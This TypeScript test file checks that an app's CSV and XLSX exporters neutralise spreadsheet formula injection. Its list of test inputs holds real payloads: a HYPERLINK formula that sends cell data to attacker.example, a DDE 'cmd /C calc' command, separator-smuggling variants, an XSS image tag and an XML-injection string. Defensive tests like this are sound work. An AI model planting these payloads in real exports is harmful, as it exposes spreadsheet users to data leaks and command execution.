// Names and labels of a scenario reach spreadsheets as texts: none is computed, whichever separator the reader expects, and none ends its cell.
import { strFromU8, unzipSync } from 'fflate'
import { expect, test } from 'vitest'
import { writeCsv } from '../../src/exchange/csv.ts'
import { column } from '../../src/exchange/table.ts'
import { xlsxBook } from '../../src/exchange/xlsx-book.ts'

const HOSTILE = [
  '=HYPERLINK("https://attacker.example?x="&A1,"Totals")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  'Hall;=1+1',
  'Hall\t=1+1',
  'Hall\r\n=1+1',
]

/** Cells by a separator, quotes ignored as readers do that expect another one. */
const cellsBy = (separator: RegExp, line: string): string[] => line.split(separator)

test.each(HOSTILE)('%j is no formula in CSV', text => {
  const csv = writeCsv([{ name: text, unit: '' }, { name: 'plain', unit: 'W' }], [[text, 1], ['Hall', -1]], { hasByteOrderMark: false })
  for (const separator of [/,|\r?\n|\r/u, /;|\r?\n|\r/u, /\t|\r?\n|\r/u]) {
    const begins = cellsBy(separator, csv).map(cell => cell.replace(/^"/u, '')).filter(cell => cell !== '-1' && !cell.startsWith('-1,'))
    expect(begins.filter(cell => /^[=+\-@＝＋－＠]/u.test(cell))).toEqual([])
  }
})

test('ordinary names stay as they are', () => {
  for (const text of ['Hall 1', 'a-b', 'x = y', 'mail@host', 'N+1', '1; 2', 'Größe']) expect(writeCsv([{ name: 'v', unit: '' }], [[text]], { hasByteOrderMark: false })).toBe(`v\r\n${text}\r\n`)
})

test('a workbook holds them as texts and no formula at all', async () => {
  const rows = [...HOSTILE, '<img src=x onerror=alert(1)>', ']]></t><f>1+1</f>'].map(text => [text])
  const book = await xlsxBook([{ name: 'ledger', table: { columns: [column('=1+1')], rows } }])
  expect(book.ok).toBe(true)
  const files = unzipSync(book.ok ? book.value : new Uint8Array())
  const sheets = Object.entries(files).filter(([name]) => /^xl\/worksheets\/[^/]+\.xml$/u.test(name)).map(([, bytes]) => strFromU8(bytes))
  expect(sheets.length).toBe(1)
  for (const xml of sheets) {
    expect(xml).not.toMatch(/<f[\s>]/u)
    expect(xml).not.toContain('<img')
  }
  const texts = strFromU8(files['xl/sharedStrings.xml'] ?? new Uint8Array()) || sheets.join('')
  expect(texts).toContain("'=HYPERLINK(")
  expect(texts).toContain('&lt;img src=x')
})
